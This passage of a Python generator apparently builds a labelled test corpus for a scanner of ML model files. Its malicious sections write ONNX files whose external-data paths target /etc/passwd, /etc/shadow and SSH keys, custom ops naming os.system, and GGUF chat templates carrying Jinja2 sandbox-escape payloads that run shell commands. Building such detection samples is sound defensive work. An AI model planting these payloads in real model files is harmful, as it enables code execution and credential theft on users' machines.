    )
    model.ir_version = 8
    return model


def _external(tensor: Any, location: str, length: int | None = None) -> None:
    from onnx import TensorProto

    nbytes = len(tensor.raw_data)
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for k, v in (
        ("location", location),
        ("offset", "0"),
        ("length", str(length if length is not None else nbytes)),
    ):
        e = tensor.external_data.add()
        e.key, e.value = k, v


def gen_onnx_benign(ctx: Ctx) -> None:
    import numpy as np

    rs = np.random.default_rng(ctx.seed + 11)
    ctx.write(
        "benign",
        "onnx/mlp.onnx",
        _onnx_mlp(rs).SerializeToString(),
        "onnx",
        "onnx",
        "ONNX MLP (Gemm/Relu) with inline initializers, opset 17",
    )
    ctx.write(
        "benign",
        "onnx/cnn.onnx",
        _onnx_cnn(rs).SerializeToString(),
        "onnx",
        "onnx",
        "ONNX CNN (Conv/Relu/GlobalAveragePool/Flatten/Gemm)",
    )
    model = _onnx_mlp(rs, 64, 128, 8, "mlp_ext")
    blob = b""
    for t in model.graph.initializer:
        raw = t.raw_data
        _external(t, "mlp_ext.onnx.data")
        t.external_data[1].value = str(len(blob))
        blob += raw
    ctx.write(
        "benign",
        "onnx/mlp_ext.onnx",
        model.SerializeToString(),
        "onnx-external-data",
        "onnx",
        "ONNX MLP whose initializers live in a sibling file mlp_ext.onnx.data (relative, no traversal)",
    )
    ctx.write(
        "benign",
        "onnx/mlp_ext.onnx.data",
        blob,
        "onnx-external-data",
        "onnx-external-data",
        "raw float32 external tensor data for mlp_ext.onnx",
    )
    if ctx.full:
        for i in range(3):
            ctx.write(
                "benign",
                f"onnx/mlp-{i}.onnx",
                _onnx_mlp(rs, 8 * (i + 1), 16 * (i + 1), 2 + i).SerializeToString(),
                "onnx",
                "onnx",
                f"ONNX MLP variant {i}",
            )


def gen_onnx_malicious(ctx: Ctx) -> None:
    import numpy as np
    from onnx import helper

    rs = np.random.default_rng(ctx.seed + 12)
    locs = [
        ("../../../etc/passwd", "relative path traversal"),
        ("/etc/passwd", "absolute path"),
        ("/proc/self/environ", "absolute path to the loader's environment"),
        ("..\\..\\..\\Windows\\win.ini", "Windows-style traversal"),
        ("weights/../../../../../root/.ssh/id_rsa", "traversal hidden behind a subdirectory"),
        ("file:///etc/shadow", "URI-style location"),
    ]
    for i, (loc, desc) in enumerate(ctx.pick(locs, 3)):
        model = _onnx_mlp(rs)
        _external(model.graph.initializer[0], loc, 512)
        ctx.write(
            "malicious",
            f"onnx/external-{i}.onnx",
            model.SerializeToString(),
            "onnx-external-data",
            "onnx",
            f"initializer fc1.weight with external_data location {loc!r} ({desc})",
            technique="path-traversal",
        )
    # external data inside a subgraph (If node branch)
    model = _onnx_mlp(rs)
    t = helper.make_tensor("secret", 1, [16], rs.standard_normal(16).astype(np.float32).tobytes(), raw=True)
    _external(t, "../../../../etc/hostname")
    branch = helper.make_graph(
        [helper.make_node("Constant", [], ["b_out"], value=t)],
        "then",
        [],
        [helper.make_tensor_value_info("b_out", 1, [16])],
    )
    cond = helper.make_node("If", ["cond"], ["if_out"], then_branch=branch, else_branch=branch)
    model.graph.node.append(cond)
    model.graph.input.append(helper.make_tensor_value_info("cond", 9, []))
    ctx.write(
        "malicious",
        "onnx/external-in-subgraph.onnx",
        model.SerializeToString(),
        "onnx-external-data",
        "onnx",
        "external_data traversal inside an If node's subgraph Constant",
        technique="path-traversal",
    )
    ops = [
        (
            "ai.onnx.contrib",
            "PyOp",
            "onnxruntime-extensions PyOp custom op (runs a registered Python function)",
        ),
        ("ai.onnx.contrib", "PyCustomOp", "custom Python op in the contrib domain"),
        ("com.example.evil", "ShellExec", "unknown custom domain op"),
    ]
    for dom, op, desc in ctx.pick(ops, 2):
        model = _onnx_mlp(rs)
        model.graph.node.append(
            helper.make_node(
                op,
                ["output"],
                ["output2"],
                domain=dom,
                name=f"/{op}",
                CustomType="OpCommon",
                module="os",
                func="system",
            )
        )
        model.graph.output[0].name = "output2"
        model.opset_import.append(helper.make_opsetid(dom, 1))
        ctx.write(
            "malicious",
            f"onnx/custom-{op.lower()}.onnx",
            model.SerializeToString(),
            "onnx-custom-op",
            "onnx",
            f"node {dom}::{op}: {desc}",
            technique="custom-op",
        )


# ---------------------------------------------------------------------------------------------------------
# GGUF
# ---------------------------------------------------------------------------------------------------------

LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in lo"
    "op_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['con"
    "tent'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{"
    " content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + messag"
    "e['role'] + '\n' + message['content'] + '<|im_end|>' + "
    "'\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
MISTRAL_TEMPLATE = (
    "{{ bos_token }}{% for message in messages %}{% if (me"
    "ssage['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + messag"
    "e['content'] + ' [/INST]' }}{% elif message['role'] == "
    "'assistant' %}{{ message['content'] + eos_token}}{% el"
    "se %}{{ raise_exception('Only user and assistant roles "
    "are supported!') }}{% endif %}{% endfor %}"
)
GEMMA_TEMPLATE = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system'"
    " %}{{ raise_exception('System role not supported') }}"
    "{% endif %}{% for message in messages %}{% if (messa"
    "ge['role'] == 'assistant') %}{% set role = 'model' %}"
    "{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\n' + "
    "message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}{% if add_generation_prompt %}"
    "{{'<start_of_turn>model\n'}}{% endif %}"
)
PHI3_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] ="
    "= 'system' %}{{'<|system|>\n' + message['content'] + "
    "'<|end|>\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\n' + message['content'] + '<|end|>\n'}}"
    "{% elif message['role'] == 'assistant' %}{{'<|assistan"
    "t|>\n' + message['content'] + '<|end|>\n'}}{% endif %}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\n' }}{% else %}{{ eos_token }}{% endif %}"
)
TOOLS_TEMPLATE = (
    "{%- set ns = namespace(system_prompt='', is_first=true) -%}{%- if tools %}{{- '<|im_start|>system\\n' }}"
    "{%- for tool in tools %}{{- '\\n' }}{{- tool | tojson }}{%- endfor %}{{- '<|im_end|>\\n' }}{%- endif %}"
    "{%- for message in messages %}{%- if message.role == 'assistant' and message.tool_calls %}"
    "{%- for tool_call in message.tool_calls %}{{- '<tool"
    '_call>\\n{"name": "\' }}{{- tool_call.function.name }}'
    "{{- '\", \"arguments\": ' }}{{- tool_call.function.arguments | tojson }}{{- '}\\n</tool_call>' }}"
    "{%- endfor %}{%- else %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}"
    "{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"
    "{{- strftime_now('%d %b %Y') if false else '' }}"
)
BENIGN_TEMPLATES = [
    ("llama3", LLAMA3_TEMPLATE),
    ("chatml", CHATML_TEMPLATE),
    ("mistral", MISTRAL_TEMPLATE),
    ("gemma", GEMMA_TEMPLATE),
    ("phi3", PHI3_TEMPLATE),
    ("qwen-tools", TOOLS_TEMPLATE),
]


def evil_templates(m: Marker) -> list[tuple[str, str, str]]:
    c = m.cmd
    return [
        (
            "mro-subclasses",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "lists every class via str.__mro__",
        ),
        (
            "catch-warnings",
            "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == "
            "'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('"
            + c
            + "') }}{% endif %}"
            "{% endfor %}",
            "subclass walk to warnings.catch_warnings -> __builtins__ -> os.system",
        ),
        (
            "cycler",
            "{{ cycler.__init__.__globals__.os.popen('" + c + "').read() }}",
            "cycler.__init__.__globals__.os",
        ),
        (
            "joiner",
            "{{ joiner.__init__.__globals__.os.system('" + c + "') }}",
            "joiner.__init__.__globals__.os",
        ),
        (
            "namespace",
            "{{ namespace.__init__.__globals__.os.system('" + c + "') }}",
            "namespace.__init__.__globals__",
        ),
        ("lipsum", "{{ lipsum.__globals__['os'].popen('" + c + "').read() }}", "lipsum.__globals__['os']"),
        (
            "concat-globals",
            "{% set g = '__glo' + 'bals__' %}{{ (lipsum|attr(g))['os'].system('" + c + "') }}",
            "'__glo' + 'bals__' string concatenation plus |attr",
        ),
        (
            "tilde-concat",
            "{{ (cycler.__init__|attr('__glo' ~ 'bals__'))['__buil' ~ 'tins__']['__imp' ~ 'ort__']"
            "('os').system('" + c + "') }}",
            "~ concatenation of dunder names",
        ),
        (
            "attr-hex-escapes",
            "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|"
            "attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
            "|attr with \\x5f-escaped dunder names",
        ),
        (
            "dict-join",
            "{% set a = dict(__glo=1, bals__=1)|join %}{{ (joiner.__init__|attr(a)).os.system('"
            + c
            + "') }}",
            "dict(...)|join builds '__globals__'",
        ),
        (
            "subscript",
            "{{ ''['__cla' ~ 'ss__']['__mr' ~ 'o__'][1]['__subcla' ~ 'sses__']() }}",
            "subscript access with concatenated dunder names",
        ),
        (
            "self-context",
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('" + c + "') }}",
            "self._TemplateReference__context -> cycler globals",
        ),
        (
            "raise-exception-globals",
            "{{ raise_exception.__globals__['__builtins__']['exec'](\""
            + m.pysrc.replace('"', '\\"')
            + '") }}',
            "raise_exception helper's __globals__ -> exec",
        ),
        (
            "unicode-escapes",
            "{{ lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f') }}",
            "\\u005f-escaped __globals__",
        ),
        (
            "format-filter",
            "{{ lipsum|attr('%c%cglobals%c%c'|format(95,95,95,95)) }}",
            "'%c'|format(95) builds '_'",
        ),
        (
            "messages-class",
            "{{ messages.__class__.__base__.__subclasses__() }}",
            "messages.__class__.__base__",
        ),
    ]


def _gguf_bytes(
    ctx: Ctx,
    template: str | None,
    named: dict[str, str] | None = None,
    arch: str = "llama",
    name: str = "tiny",
) -> bytes:
    import gguf
    import numpy as np

    tmp = ctx.root / ".tmp.gguf"
    rs = np.random.default_rng(ctx.seed + len(template or ""))
    w = gguf.GGUFWriter(tmp, arch=arch)
    w.add_name(name)
    w.add_context_length(256)
    w.add_embedding_length(16)
    w.add_block_count(1)
    w.add_feed_forward_length(32)
    w.add_head_count(2)
    w.add_tokenizer_model("gpt2")
    tokens = ["<s>", "</s>", "<unk>", *[f"tok{i}" for i in range(29)]]
    w.add_token_list(tokens)
    w.add_token_types([1] * len(tokens))
    w.add_bos_token_id(0)
    w.add_eos_token_id(1)
    if template is not None:
        w.add_chat_template(template)
    if named:
        for k, v in named.items():
            w.add_string(f"tokenizer.chat_template.{k}", v)
        w.add_array("tokenizer.chat_templates", list(named))
    w.add_tensor("token_embd.weight", rs.standard_normal((len(tokens), 16)).astype(np.float32))
    w.add_tensor("output_norm.weight", np.ones(16, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    data = tmp.read_bytes()
    tmp.unlink()
    return data


def gen_gguf(ctx: Ctx, m: Marker, *, malicious: bool) -> None:
    if not malicious:
        for name, tpl in BENIGN_TEMPLATES:
            ctx.write(
                "benign",
                f"gguf/{name}.gguf",
                _gguf_bytes(ctx, tpl, name=name),
                "gguf",
                "gguf",
                f"tiny GGUF with a real-world {name} chat template",
            )
        ctx.write(
            "benign",
            "gguf/no-template.gguf",
            _gguf_bytes(ctx, None),
            "gguf",
            "gguf",
            "tiny GGUF without a chat template",
        )
        ctx.write(
            "benign",
            "gguf/named-templates.gguf",
            _gguf_bytes(ctx, CHATML_TEMPLATE, {"tool_use": TOOLS_TEMPLATE}),
            "gguf",
            "gguf",
            "GGUF with a default plus a named tool_use template",
        )
        return
    evil = evil_templates(m)
    for i, (key, tpl, desc) in enumerate(ctx.pick(evil, 6)):
        if i % 3 == 1:
            full = LLAMA3_TEMPLATE + tpl
            desc = f"real llama-3 template with a trailing injection: {desc}"
        else:
            full = tpl
        ctx.write(
            "malicious",
            f"gguf/{key}.gguf",
            _gguf_bytes(ctx, full),
            "gguf-template",
            "gguf",
            f"jinja2 SSTI in tokenizer.chat_template: {desc}",
            technique="jinja-ssti",
        )
    key, tpl, desc = evil[2]
    ctx.write(
        "malicious",
        "gguf/named-template-injection.gguf",
        _gguf_bytes(ctx, CHATML_TEMPLATE, {"rag": tpl}),
        "gguf-template",
        "gguf",
        f"benign default template, SSTI in tokenizer.chat_template.rag: {desc}",
        technique="jinja-ssti",
    )


# ---------------------------------------------------------------------------------------------------------
# BENIGN
# ---------------------------------------------------------------------------------------------------------


def gen_benign(ctx: Ctx) -> None:
    import numpy as np
    import torch

    models = torch_models()
    torch.manual_seed(ctx.seed)
    rs = np.random.default_rng(ctx.seed)

    def W(rel: str, data: bytes, family: str, fmt: str, desc: str) -> None:  # noqa: N802
        ctx.write("benign", rel, data, family, fmt, desc)

    # torch --------------------------------------------------------------------------------------------
    archs = [
        ("mlp", models.MLP),
        ("cnn", models.SmallCNN),
        ("transformer", models.TinyTransformer),
        ("lstm", models.LSTMTagger),
        ("gru", models.GRUClassifier),
        ("resblock", models.ResBlockNet),
    ]
    exts = [".pt", ".pth", ".bin", ".ckpt"]
    for i, (name, cls) in enumerate(archs if ctx.full else archs[:4]):
        model = cls()
        sd = model.state_dict()
        ext = exts[i % len(exts)]
        W(
            f"torch/{name}-state_dict{ext}",
            torch_save_bytes(sd),
            "torch-state-dict",
            "torch-zip",
            f"torch.save(state_dict) of a {cls.__name__}",
        )
        W(
            f"torch/{name}-state_dict-legacy{ext}",
            torch_save_bytes(sd, legacy=True),
            "torch-state-dict",
            "torch-legacy",
            f"legacy-format torch.save(state_dict) of a {cls.__name__}",
        )
        W(
            f"torch/{name}-whole-module.pt",
            torch_save_bytes(model),
            "torch-whole-module",
            "torch-zip",
            f"torch.save(model) of {MODELS_MODULE}.{cls.__name__} (unknown but harmless class global)",
        )
        if ctx.full:
            W(
                f"torch/{name}-whole-module-legacy.pt",
                torch_save_bytes(model, legacy=True),
                "torch-whole-module",
                "torch-legacy",
                f"legacy torch.save(model) of {cls.__name__}",
            )
            W(
                f"torch/{name}-state_dict-p4.pt",
                torch_save_bytes(sd, protocol=4),
                "torch-state-dict",
                "torch-zip",
                "torch.save(state_dict, pickle_protocol=4)",
            )
            half = {k: v.half() if v.is_floating_point() else v for k, v in sd.items()}
            W(
                f"torch/{name}-fp16.bin",
                torch_save_bytes(half),
                "torch-state-dict",
                "torch-zip",
                f"float16 state_dict of {cls.__name__}",
            )
            bf = {k: v.bfloat16() if v.is_floating_point() else v for k, v in sd.items()}
            W(
                f"torch/{name}-bf16.pt.bak",
                torch_save_bytes(bf),
                "torch-state-dict",
                "torch-zip",
                f"bfloat16 state_dict of {cls.__name__} (backup-style extension)",
            )
    for opt_name in ("adam", "sgd", "adamw") if ctx.full else ("adam", "sgd"):
        model = models.MLP()
        opt = {
            "adam": torch.optim.Adam,
            "adamw": torch.optim.AdamW,
            "sgd": lambda p: torch.optim.SGD(p, lr=0.1, momentum=0.9),
        }[opt_name](model.parameters())
        sched = torch.optim.lr_scheduler.StepLR(opt, step_size=10, gamma=0.5)
        for _ in range(2):
            loss = model(torch.randn(4, 32)).pow(2).mean()
            opt.zero_grad()
            loss.backward()
            opt.step()
            sched.step()
        W(
            f"torch/optimizer-{opt_name}.pt",
            torch_save_bytes(opt.state_dict()),
            "torch-optimizer",
            "torch-zip",
            f"{type(opt).__name__} optimizer state_dict after two steps",
        )
        ckpt = {
            "epoch": 2,
            "global_step": 1234,
            "model": model.state_dict(),
            "optimizer": opt.state_dict(),
            "scheduler": sched.state_dict(),
            "best_metric": 0.8731,
            "config": {"lr": 0.001, "layers": [32, 64]},
            "rng_state": torch.get_rng_state(),
        }
        W(
            f"torch/checkpoint-{opt_name}.ckpt",
            torch_save_bytes(ckpt),
            "torch-checkpoint",
            "torch-zip",
            "training checkpoint {'epoch','model','optimizer','scheduler',...}",
        )
        W(
            f"torch/checkpoint-{opt_name}-legacy.tar",
            torch_save_bytes(ckpt, legacy=True),
            "torch-checkpoint",
            "torch-legacy",
            "legacy-format training checkpoint",
        )
    W(
        "torch/tensors-misc.pt",
        torch_save_bytes(
            {
                "ids": torch.arange(100, dtype=torch.int64),
                "mask": torch.ones(10, dtype=torch.bool),
                "scale": torch.tensor(0.5, dtype=torch.float64),
                "q": torch.randint(-128, 127, (16,), dtype=torch.int8),
                "c": torch.complex(torch.randn(3), torch.randn(3)),
                "shared_view": torch.randn(8)[2:6],
                "nested": [torch.zeros(2), (torch.ones(1), {"k": torch.eye(3)})],
            }
        ),
        "torch-tensors",
        "torch-zip",
        "torch.save of assorted dtypes, views and nested containers",
    )
    W(
        "torch/hf-style/pytorch_model.bin",
        torch_save_bytes(models.TinyTransformer().state_dict()),
        "torch-state-dict",
        "torch-zip",
        "HF-style pytorch_model.bin of a tiny transformer",
    )
    W(
        "torch/no-extension-model",
        torch_save_bytes(models.GRUClassifier().state_dict()),
        "torch-state-dict",
        "torch-zip",
        "torch zip with no file extension",
    )

    # scikit-learn ------------------------------------------------------------------------------------
    import joblib
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingRegressor,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC

    X = rs.standard_normal((120, 6))  # noqa: N806
    y = (X[:, 0] + X[:, 1] > 0).astype(int)
    docs = [
        "the cat sat on the mat",
        "dogs and cats",
        "model weights are tensors",
        "scan every pickle",
        "never load untrusted files",
        "a tiny corpus of text",
    ] * 5
    import pandas as pd

    frame = pd.DataFrame(
        {
            "age": rs.integers(18, 90, 60),
            "income": rs.standard_normal(60) * 1e4,
            "city": rs.choice(["paris", "lima", "oslo"], 60),
        }
    )
    estimators: list[tuple[str, Callable[[], Any]]] = [
        (
            "scaler-logreg-pipeline",
            lambda: Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(
                X, y
            ),
        ),
        (
            "random-forest",
            lambda: RandomForestClassifier(n_estimators=8, max_depth=4, random_state=0).fit(X, y),
        ),
        ("gradient-boosting", lambda: GradientBoostingClassifier(n_estimators=10, random_state=0).fit(X, y)),
        ("kmeans", lambda: KMeans(n_clusters=3, n_init=2, random_state=0).fit(X)),
        ("pca", lambda: PCA(n_components=3, random_state=0).fit(X)),
        ("tfidf", lambda: TfidfVectorizer().fit(docs)),
        (
            "column-transformer",
            lambda: Pipeline(
                [
                    (
                        "prep",
                        ColumnTransformer(
                            [
                                ("num", StandardScaler(), ["age", "income"]),
                                ("cat", OneHotEncoder(handle_unknown="ignore"), ["city"]),
                            ]
                        ),
                    ),
                    ("reg", Ridge()),
                ]
            ).fit(frame, frame["income"] * 0.1),
        ),
        ("svc", lambda: SVC(probability=False, random_state=0).fit(X, y)),
        (
            "hist-gradient-boosting",
            lambda: HistGradientBoostingRegressor(max_iter=10, random_state=0).fit(X, X[:, 2]),
        ),
        ("isolation-forest", lambda: IsolationForest(n_estimators=10, random_state=0).fit(X)),
        ("knn", lambda: KNeighborsClassifier(n_neighbors=3).fit(X, y)),
    ]
    jb_dir = ctx.root / ".tmp-joblib-b"
    jb_dir.mkdir(exist_ok=True)

    def joblib_bytes(obj: Any, compress: Any) -> bytes:
        path = jb_dir / "x.joblib"
        joblib.dump(obj, path, compress=compress)
        data = path.read_bytes()
        path.unlink()
        return data

    comps = ["zlib", "gzip", "bz2", "xz", "lzma", "lz4"]
    for i, (name, fit) in enumerate(ctx.pick(estimators, 6)):
        est = fit()
        for step in [est, *getattr(est, "named_steps", {}).values()]:
            if hasattr(step, "_stop_words_id"):  # id() of a set: differs per run, only a cache key
                step._stop_words_id = 0
        W(
            f"sklearn/{name}.pkl",
            pickle.dumps(est, protocol=5 if i % 2 else 4),
            "sklearn",
            "pickle",
            f"pickle.dumps of a fitted scikit-learn {type(est).__name__}",
        )
        W(
            f"sklearn/{name}.joblib",
            joblib_bytes(est, 0),
            "sklearn",
            "joblib",
            f"joblib.dump of {type(est).__name__}",
        )
        c = comps[i % len(comps)]
        W(
            f"sklearn/{name}-{c}.joblib",
            joblib_bytes(est, (c, 3)),
            "sklearn",
            f"joblib-{c}",
            f"joblib.dump(compress=('{c}', 3)) of {type(est).__name__}",
        )
        if ctx.full and i % 3 == 0:
            W(
                f"sklearn/{name}-p2.pkl",
                pickle.dumps(est, protocol=2),
                "sklearn",
                "pickle",
                f"protocol-2 pickle of {type(est).__name__}",
            )
    jb_dir.rmdir()

    # pandas ------------------------------------------------------------------------------------------
    df = pd.DataFrame(
        {
            "ts": pd.date_range("2024-01-01", periods=50, freq="h", tz="UTC"),
            "cat": pd.Categorical(rs.choice(["a", "b", "c"], 50)),
            "text": [f"row {i}" for i in range(50)],
            "value": rs.standard_normal(50),
            "flag": rs.integers(0, 2, 50).astype(bool),
            "delta": pd.to_timedelta(rs.integers(0, 100, 50), unit="s"),
        }
    )
    for proto in (4, 5) if not ctx.full else (2, 3, 4, 5):
        W(
            f"pandas/frame-p{proto}.pkl",
            pickle.dumps(df, protocol=proto),
            "pandas",
            "pickle",
            f"pandas DataFrame (datetime tz, categorical, string, bool, timedelta) protocol {proto}",
        )
    W(
        "pandas/series.pkl",
        pickle.dumps(pd.Series(rs.standard_normal(20), index=[f"k{i}" for i in range(20)], name="scores")),
        "pandas",
        "pickle",
        "pandas Series",
    )
    W(
        "pandas/multiindex.pkl",
        pickle.dumps(df.set_index(["cat", "text"]).head(10)),
        "pandas",
        "pickle",
        "DataFrame with a MultiIndex",
    )
    buf = io.BytesIO()
    df.to_pickle(buf, compression=None)
    W("pandas/to_pickle.pkl", buf.getvalue(), "pandas", "pickle", "DataFrame.to_pickle output")

    # numpy -------------------------------------------------------------------------------------------
    arrays = {
        "float32": rs.standard_normal((32, 16)).astype(np.float32),
        "float64": rs.standard_normal(100),
        "int64": np.arange(1000, dtype=np.int64),
        "uint8-image": rs.integers(0, 255, (16, 16, 3), dtype=np.uint8),
        "bool": rs.integers(0, 2, 64).astype(bool),
        "complex": rs.standard_normal(8) + 1j * rs.standard_normal(8),
        "fortran": np.asfortranarray(rs.standard_normal((5, 7))),
        "big-endian": np.arange(10, dtype=">i4"),
        "structured": np.array(
            [(1, 2.5, b"ab"), (2, 3.5, b"cd")], dtype=[("id", "<i4"), ("x", "<f8"), ("s", "S2")]
        ),
        "float16": rs.standard_normal(33).astype(np.float16),
        "unicode": np.array(["alpha", "beta", "γ"]),
        "empty": np.zeros((0, 3)),
        "scalar": np.array(3.14),
        "datetime64": np.arange("2024-01", "2024-06", dtype="datetime64[M]"),
    }
    for name, arr in ctx.pick(list(arrays.items()), 8):
        W(
            f"numpy/{name}.npy",
            npy_save_bytes(arr),
            "numpy",
            "npy",
            f"np.save of a {arr.dtype} array {arr.shape}",
        )
    W(
        "numpy/embeddings.npz",
        npz_bytes({"emb": arrays["float32"], "ids": arrays["int64"]}),
        "numpy",
        "npz",
        "np.savez-style npz of two numeric arrays",
    )
    W(
        "numpy/compressed.npz",
        npz_bytes({"a": arrays["float64"], "b": arrays["bool"], "c": arrays["structured"]}, compress=True),
        "numpy",
        "npz",
        "np.savez_compressed-style npz",
    )

    # plain pickles --------------------------------------------------------------------------------------
    plain: list[tuple[str, Any]] = [
        ("dict-of-lists", {"train": [1, 2, 3], "val": [4, 5], "names": ["a", "b"]}),
        (
            "nested-config",
            {"model": {"layers": [64, 64], "act": "relu", "dropout": 0.1}, "seed": 42, "tags": ("x",)},
        ),
        # string sets iterate in hash-seed order; ints and int tuples keep the output reproducible
        ("set-frozenset", {"s": {1, 2, 3}, "f": frozenset({(1, 2), (3, 4)})}),
        ("ordereddict", collections.OrderedDict([("w", 1.0), ("b", -0.5)])),
        (
            "datetime",
            {
                "created": dt.datetime(2024, 5, 1, 12, 30, tzinfo=dt.UTC),
                "d": dt.date(2023, 1, 2),
                "td": dt.timedelta(hours=3),
            },
        ),
        ("decimal-uuid", {"price": decimal.Decimal("12.50"), "id": uuid.UUID(int=ctx.seed + 1234)}),
        ("complex-bytes", {"z": 3 + 4j, "b": b"\x00\x01binary", "ba": bytearray(b"mutable"), "none": None}),
        (
            "defaultdict-counter",
            {"dd": collections.defaultdict(list, {"a": [1]}), "c": collections.Counter("mississippi")},
        ),
        ("big-ints-floats", {"big": 2**100, "neg": -(2**70), "inf": float("inf"), "tiny": 5e-324}),
        (
            "deque-range-slice",
            {"dq": collections.deque([1, 2, 3]), "r": range(0, 10, 2), "sl": slice(1, 5, 2)},
        ),
        ("recursive-list", None),
        ("vocab", {f"token{i}": i for i in range(500)}),
    ]
    rec: list[Any] = [1, 2]
    rec.append(rec)
    for i, (name, obj) in enumerate(plain):
        value = rec if name == "recursive-list" else obj
        protos = range(6) if ctx.full and i < 4 else [(i % 5) + 1]
        for proto in protos:
            W(
                f"pickle/{name}-p{proto}.pkl",
                pickle.dumps(value, protocol=proto),
                "plain-pickle",
                "pickle",
                f"pickle of builtin/stdlib types ({name}), protocol {proto}",
            )

    # safetensors ---------------------------------------------------------------------------------------
    from safetensors.numpy import save as st_save_np
    from safetensors.torch import save as st_save_torch

    W(
        "safetensors/mlp.safetensors",
        st_save_torch(models.MLP().state_dict(), metadata={"format": "pt"}),
        "safetensors",
        "safetensors",
        "safetensors.torch.save of an MLP state_dict with metadata",
    )
    W(
        "safetensors/transformer-bf16.safetensors",
        st_save_torch(
            {k: v.bfloat16().contiguous() for k, v in models.TinyTransformer().state_dict().items()}
        ),
        "safetensors",
        "safetensors",
        "bfloat16 tiny transformer",
    )
    W(
        "safetensors/numpy.safetensors",
        st_save_np({"a": arrays["float32"], "b": arrays["int64"], "c": arrays["uint8-image"]}),
        "safetensors",
        "safetensors",
        "safetensors.numpy.save of mixed dtypes",
    )
    if ctx.full:
        for name, cls in archs:
            W(
                f"safetensors/arch-{name}.safetensors",
                st_save_torch(
                    {k: v.contiguous() for k, v in cls().state_dict().items()}, metadata={"arch": name}
                ),
                "safetensors",
                "safetensors",
                f"safetensors of {cls.__name__}",
            )
    W(
        "safetensors/model.safetensors.index.json",
        json.dumps(
            {
                "metadata": {"total_size": 1234},
                "weight_map": {"net.0.weight": "model-00001-of-00002.safetensors"},
            },
            indent=2,
        ).encode(),
        "safetensors",
        "json",
        "sharded-safetensors index file",
    )

    # dill ------------------------------------------------------------------------------------------------
    import dill

    W(
        "dill/data.dill",
        dill.dumps({"a": [1, 2], "b": np.arange(5)}),
        "dill",
        "dill",
        "dill.dumps of plain data",
    )

    # archives of benign models -------------------------------------------------------------------------
    small_sd = torch_save_bytes(models.MLP(8, 8, 2).state_dict())
    W(
        "archive/model.tar.gz",
        gzip_bytes(tar_bytes([("model/pytorch_model.bin", small_sd), ("model/config.json", b'{"d_in": 8}')])),
        "archive",
        "tar.gz",
        "tar.gz of a benign torch state_dict plus config",
    )
    W(
        "archive/model.zip",
        zip_bytes(
            [
                ("model.safetensors", st_save_torch(models.MLP(8, 8, 2).state_dict())),
                ("README.md", b"# tiny\n"),
            ],
            compress=True,
        ),
        "archive",
        "zip",
        "zip of a safetensors file and README",
    )
    W(
        "archive/model.7z",
        sevenz_bytes([("model.pt", small_sd)], ctx.root / ".tmp-b.7z"),
        "archive",
        "7z",
        "7z of a benign torch state_dict",
    )
    W(
        "config/config.json",
        json.dumps(
            {
                "architectures": ["BertModel"],
                "hidden_size": 64,
                "num_attention_heads": 4,
                "model_type": "bert",
            },
            indent=2,
        ).encode(),
        "config",
        "json",
        "HF-style config.json",
    )

    gen_keras_benign(ctx)
    gen_savedmodel(ctx, Marker(ctx.marker), malicious=False)
    gen_onnx_benign(ctx)
    gen_gguf(ctx, Marker(ctx.marker), malicious=False)


# ---------------------------------------------------------------------------------------------------------
# MALFORMED
# ---------------------------------------------------------------------------------------------------------


def gen_malformed(ctx: Ctx) -> None:
    import numpy as np
    import torch
    from safetensors.numpy import save as st_save_np

    models = torch_models()
    rs = np.random.default_rng(ctx.seed + 99)

    def W(rel: str, data: bytes, family: str, fmt: str, desc: str) -> None:  # noqa: N802
        ctx.write("malformed", rel, data, family, fmt, desc)

    torch.manual_seed(ctx.seed)
    tz = torch_save_bytes(models.MLP(8, 8, 2).state_dict())
    pk = pickle.dumps({"weights": list(range(50)), "name": "model"}, protocol=4)
    st = st_save_np({"w": rs.standard_normal((8, 8)).astype(np.float32)})
    npy = npy_save_bytes(rs.standard_normal(64))
    gg = _gguf_bytes(ctx, CHATML_TEMPLATE)
    for name, data, fmt in (
        ("pickle.pkl", pk, "pickle"),
        ("torch.pt", tz, "torch-zip"),
        ("model.safetensors", st, "safetensors"),
        ("array.npy", npy, "npy"),
        ("model.gguf", gg, "gguf"),
    ):
